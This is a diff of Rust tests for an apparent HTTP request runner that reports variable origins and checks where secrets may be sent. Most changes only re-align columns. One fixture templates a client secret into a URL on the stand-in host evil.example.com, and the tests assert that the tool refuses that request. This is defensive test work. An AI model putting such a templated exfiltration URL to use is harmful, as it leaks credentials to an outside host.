@@ -75,7 +75,7 @@ fn every_value_is_told_with_its_origin() {
               client_secret  ***                                environments/dev.local.yaml:1
                              secret: `!secret` at environments/dev.yaml:5; read in line 8
               access_token   not set
-                             an environment or an earlier request must give it
+                             only this request gives it
                              read in line 6
               api_url        https://api.example.com/2.0        environments/dev.yaml:2
                              read by `token_url`
@@ -156,9 +156,9 @@ fn a_refusal_is_told_before_it_happens() {
                              written https://evil.example.com/x?k={{ client_secret | upper }}
 
             variables
-              client_secret  ***     environments/dev.local.yaml:1
+              client_secret  ***  environments/dev.local.yaml:1
                              secret: `!secret` at environments/dev.yaml:5; read in line 22, by `sent`
-              sent           ***     a.yaml:2
+              sent           ***  a.yaml:2
                              secret: reads `client_secret`; read in line 23
 
             where its secrets may go
@@ -191,7 +191,7 @@ fn a_secret_that_is_not_set_is_judged_too() {
             ",
         );
         let ran = runner.args(["a.yaml", request, "--env", "dev"]).run_passing();
-        assert!(ran.stdout.contains("  client_secret  not set  environments/dev.yaml:5\n"), "{}", ran.stdout);
+        assert!(ran.stdout.contains("  client_secret  not set                    environments/dev.yaml:5\n"), "{}", ran.stdout);
         let refused = "a run refuses it (exit code 6): the secret `client_secret` may not go to `https://evil.example.com`";
         assert!(ran.stdout.contains(refused), "{}", ran.stdout);
     }
@@ -244,7 +244,7 @@ fn nothing_is_started() {
         .run_passing();
     for expected in [
         "  url            [sandbox.url]/2.0/t\n",
-        "  client_secret  ***                  environments/dev.yaml:2\n                 secret: reads `sandbox.client_secret`; read in line 8\n",
+        "  client_secret  ***                        environments/dev.yaml:2\n                 secret: reads `sandbox.client_secret`; read in line 8\n",
         "  → [sandbox.url]  `api_url`, environments/dev.yaml:2\n",
         "  it may carry its secret `client_secret` to [sandbox.url]\n",
     ] {
@@ -269,8 +269,7 @@ fn a_request_is_chosen_by_name_start_or_line() {
         let ran = project().args(words.iter().copied()).args(["--env", "dev"]).run_passing();
         assert_eq!(ran.stdout.lines().next(), Some(title), "{words:?}");
     }
-    let all = "\
-          Get a token (a.yaml:5)
+    let all = "          Get a token (a.yaml:5)
           Get me (a.yaml:10)
           Files / Read (a.yaml:18)
           Files / Stray (a.yaml:21)
